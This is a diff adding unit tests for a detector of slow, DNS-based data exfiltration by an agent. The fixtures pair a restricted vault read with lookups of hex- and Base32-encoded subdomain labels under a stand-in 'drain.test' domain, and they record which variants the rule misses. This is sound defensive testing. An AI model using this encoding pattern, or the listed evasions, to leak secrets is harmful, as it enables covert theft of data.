@@ -4,6 +4,7 @@ import {
   flowOf,
   placeOf,
   requestOf,
+  responseOf,
   type Step,
   type ViewParts,
 } from './event.fixture.ts'
@@ -112,5 +113,49 @@ describe('slow_drip_exfiltration', () => {
       ],
     )
     expect(firing(steps)).toEqual([7])
+  })
+})
+
+describe('slow_drip_exfiltration by names of hosts', () => {
+  const read: Step = [responseOf({ tool: 'vault.read', tags: ['restricted'], number: 2 })]
+  const lookups = (names: readonly string[], tags = ['network_egress']): Step[] =>
+    names.map((name, index) => [
+      requestOf({ tool: 'dns.resolve', tags, number: 3 + index, arguments: { name } }),
+    ])
+  const below = (labels: readonly string[], domain = 'n.drain.test') =>
+    labels.map((label) => `${label}.${domain}`)
+  const HEX = ['6b65792d', '31326234', '7a39306c', '70717273', '5a395951']
+
+  it.each<[string, Step[], number[]]>([
+    ['hexadecimal labels', [read, ...lookups(below(HEX))], [4, 5]],
+    [
+      'labels in URLs',
+      [read, ...lookups(below(HEX).map((host) => `https://${host}/p.gif`))],
+      [4, 5],
+    ],
+    [
+      'labels in Base32',
+      [read, ...lookups(below(['mzxw6ytb', 'oi2gk3tf', 'nz2xe43f', 'mfrgg2dj']))],
+      [4],
+    ],
+    [
+      'the same label again',
+      [read, ...lookups(below(HEX.slice(0, 3).concat(HEX.slice(0, 3))))],
+      [],
+    ],
+    [
+      'labels below many domains',
+      [read, ...HEX.flatMap((label, index) => lookups([`${label}.d${index}.test`]))],
+      [],
+    ],
+    [
+      'names that people give',
+      [read, ...lookups(below(['www', 'mail', 'cdn-2', 'api', 'static', 'build7']))],
+      [],
+    ],
+    ['labels before anything was read', lookups(below(HEX)), []],
+    ['labels that go nowhere', [read, ...lookups(below(HEX), ['data_source'])], []],
+  ])('judges %s', (_, steps, expected) => {
+    expect(firing(steps)).toEqual(expected)
   })
 })
